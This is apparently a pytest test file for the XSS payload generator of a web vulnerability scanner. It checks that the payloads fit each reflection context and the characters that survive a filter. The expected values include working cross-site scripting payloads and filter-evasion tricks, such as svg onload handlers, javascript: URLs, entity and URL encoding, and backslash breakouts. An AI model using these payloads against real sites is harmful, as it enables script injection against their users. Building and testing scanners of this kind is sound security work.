import re

import pytest

from s2n.s2nscanner.oracles.contexts import reflections
from s2n.s2nscanner.oracles.xsspayloads import TESTED, Survivors, payloads

TOKEN = "q0canary9"
ALL = frozenset(TESTED)
UNKNOWN = Survivors()

PAGES = [
    "<p>@</p>",
    "<textarea>@</textarea>",
    "<!-- @ -->",
    "<input value='@'>",
    "<input value=@>",
    "<input type=hidden value=@>",
    "<a href='@'>x</a>",
    "<iframe srcdoc='@'>",
    "<b onclick='f(\"@\")'>",
    "<b @>",
    "<script>a = '@'</script>",
    "<script>a = `@`</script>",
    "<script>f({a: @})</script>",
    "<script>// @</script>",
    "<script>/* @ */</script>",
    "<script>a = /@/</script>",
    "<style>@</style>",
]


def some(page: str, survivors: Survivors = UNKNOWN) -> list[str]:
    (reflection,) = reflections(page.replace("@", TOKEN), TOKEN)
    return list(payloads(reflection, survivors, 7418529))


@pytest.mark.parametrize("page", PAGES)
def test_every_context_has_payloads_and_each_carries_the_number(page: str) -> None:
    found = some(page)
    assert len(found) >= 3
    assert all("7418529" in payload for payload in found)


@pytest.mark.parametrize("page", PAGES)
@pytest.mark.parametrize("lost", ['"', "'", "<", ">", "/", "=", " "])
def test_no_payload_needs_what_does_not_survive(page: str, lost: str) -> None:
    assert not any(lost in payload for payload in some(page, Survivors(raw=ALL - {lost})))


@pytest.mark.parametrize("page", PAGES)
def test_nothing_survives_nothing_is_sent(page: str) -> None:
    found = some(page, Survivors(raw=frozenset()))
    assert all(re.fullmatch(r"\w+", payload) for payload in found)


def test_entities_serve_where_the_context_decodes_them() -> None:
    encoded = Survivors(raw=ALL - {"'", '"'}, entity=frozenset({"'", '"'}))
    assert '"-alert(7418529)-"' in some("<b onclick='f(\"@\")'>", encoded)
    assert '"-alert(7418529)-"' not in some('<script>f("@")</script>', encoded)


def test_a_backslash_takes_the_filters_away() -> None:
    escaped = Survivors(raw=ALL - {"'"}, escaped=frozenset({"'"}))
    assert "\\'-alert(7418529)//" in some("<script>a = '@'</script>", escaped)
    assert "\\');alert(7418529)//" in some("<script>f('@')</script>", escaped)
    assert "'-alert(7418529)-'" not in some("<script>a = '@'</script>", escaped)


def test_without_round_brackets() -> None:
    assert "<svg onload=alert`7418529`>" in some("<p>@</p>", Survivors(raw=ALL - {"(", ")"}))
    assert "<svg onload=alert&#40;7418529&#41;>" in some("<p>@</p>", Survivors(raw=ALL - {"(", ")", "`"}))


def test_a_second_decoding_is_used() -> None:
    found = some("<p>@</p>", Survivors(raw=frozenset(), decoded_twice=True))
    assert found[0] == "%3Csvg%20onload%3Dalert%287418529%29%3E"


def test_a_link_with_a_fixed_start_gets_no_script_url() -> None:
    assert not any("javascript:alert" in payload for payload in some("<a href='/x?@'>x</a>")[:3])
    assert some("<a href='@'>x</a>")[0] == "javascript:alert(7418529)"


@pytest.mark.parametrize("page", ["<p>@</p>", "<input value='@'>"])
def test_capitals_get_entities_first(page: str) -> None:
    (reflection,) = reflections(page.replace("@", TOKEN.upper()), TOKEN)
    first = next(iter(payloads(reflection, UNKNOWN, 7418529)))
    assert "&#97;&#108;" in first


def test_a_filter_that_escapes_backslashes_too_leaves_no_way_out_of_the_string() -> None:
    sound = Survivors(raw=ALL - {"'", "\\", "<"}, escaped=frozenset({"'", "\\"}))
    assert some("<script>a = '@'</script>", sound) == []
